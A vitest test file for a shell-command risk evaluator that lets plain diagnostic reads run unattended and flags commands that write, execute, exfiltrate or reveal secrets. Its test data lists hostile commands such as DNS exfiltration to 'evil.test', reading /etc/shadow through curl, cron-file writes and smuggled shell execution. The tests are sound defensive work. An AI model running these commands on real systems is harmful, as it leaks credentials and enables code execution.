// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what the shell expands
import { describe, expect, it } from "vitest";
import { createEvaluator } from "../../src/risk/evaluate.ts";
import { whyAttended } from "../../src/risk/unattended.ts";

const evaluate = createEvaluator({ egress: ["*.internal"] });
function runsAlone(command: string): boolean {
  const verdict = evaluate(command, { os: "linux", shell: "bash" });
  return verdict.risk === "low" && whyAttended(verdict) === undefined;
}

describe("PA-7 under a lease nothing runs behind a read's name that", () => {
  it.each([
    "sed -n 'w /etc/cron.d/x' y",
    "sort --compress-program=sh y",
    "tree -o /tmp/x",
    "git diff --output=x",
    "git --exec-path=/tmp log",
    "tar --index-file=/etc/x -tvf a",
    "curl --etag-save x http://localhost",
    "openssl x509 -in a -out b",
    "psql -o x -c 'select 1'",
    "mysql --tee=x -e 'select 1'",
    "journalctl --cursor-file=x",
    "script -c id",
    "nginx -t -c /tmp/x",
    "python3 -m json.tool a /etc/cron.d/b",
  ])("writes or loads: %s", (command) => expect(runsAlone(command)).toBe(false));

  it.each([
    "ls | xargs -I{} sh -c 'echo {}'",
    "find . -name '*.log' -exec sh -c 'wc -l {}' \\;",
    "awk '{print | \"sh\"}' x",
    "git -c core.pager=sh log",
    "ssh -o ProxyCommand='sh -c id' h uptime",
    "perl -Mx -e 1",
    "rpm --eval '%(id)'",
    "ntpq -c 'config a'",
    "etcdctl watch k -- sh -c id",
    "BASH_CMDS[ls]=/srv/x; ls",
  ])("runs: %s", (command) => expect(runsAlone(command)).toBe(false));

  it.each([
    "ping -c 1 $(id -u).evil.test",
    "curl -w '@/etc/shadow' http://localhost",
    "echo flush_all | curl telnet://localhost:11211",
    "psql -h evil.test -c 'select 1'",
  ])("sends: %s", (command) => expect(runsAlone(command)).toBe(false));

  it.each([
    "env",
    "printenv | sort",
    "set | grep PASS",
    "export -p",
    "declare -px",
    "docker exec web env",
    "kubectl exec web-0 -- printenv",
    "busybox env",
    "awk 'BEGIN{for(k in ENVIRON)print k}'",
    "jq -n '$ENV'",
    "systemctl show -p Environment app",
    "docker inspect web",
    "terraform output -json",
    "redis-cli get session:1",
    "etcdctl get / --prefix",
    "curl -s localhost:8080/actuator/env",
    "tcpdump -A -c 9 -i any port 80",
    "git config --list",
    "cat <<< $MYSQL_PWD",
    "cat /etc/chef/client.pem",
    "grep -rl TODO /srv/app | xargs head",
    'cat "$KUBECONFIG"',
  ])("reveals: %s", (command) => expect(runsAlone(command)).toBe(false));
});

describe("PA-7 under a lease a plain read runs", () => {
  it.each([
    "uptime",
    "df -h",
    "du -sh /var/log",
    "free -m",
    "ps aux --sort=-%mem | head -n 15",
    "top -b -n 1 | head -20",
    "ss -tlnp",
    "ip -s link",
    "vmstat 1 5",
    "iostat -xz 1 3",
    "journalctl -u nginx -n 100 --no-pager",
    "systemctl status nginx",
    "systemctl list-units --failed",
    "tail -n 200 /var/log/nginx/error.log",
    "grep -c ' 500 ' /var/log/nginx/access.log",
    "grep -i 'failed password' /var/log/auth.log",
    "find /var/log -name '*.log' -size +100M",
    "find /var/log -mmin -5 -type f | xargs tail -n 20",
    "cat /proc/loadavg",
    "for p in $(pgrep nginx); do cat /proc/$p/status; done",
    "docker ps -a",
    "docker inspect -f '{{.State.Status}}' web",
    "docker logs --tail 100 web",
    "redis-cli info memory",
    "psql -c 'select count(*) from pg_stat_activity'",
    "nginx -t",
    "git log --oneline -n 5",
    "lsof -i :8080",
    "dmesg -T | tail -n 50",
    "openssl x509 -in /etc/nginx/site.crt -noout -dates",
    "python3 -m json.tool /srv/app/state.json",
    "fd -e log . /var/log",
    "awk '{print $9}' /var/log/nginx/access.log | sort | uniq -c",
    "env LANG=C df -h",
    "LC_ALL=C sar -u 1 3",
  ])("%s", (command) => expect(runsAlone(command)).toBe(true));
});
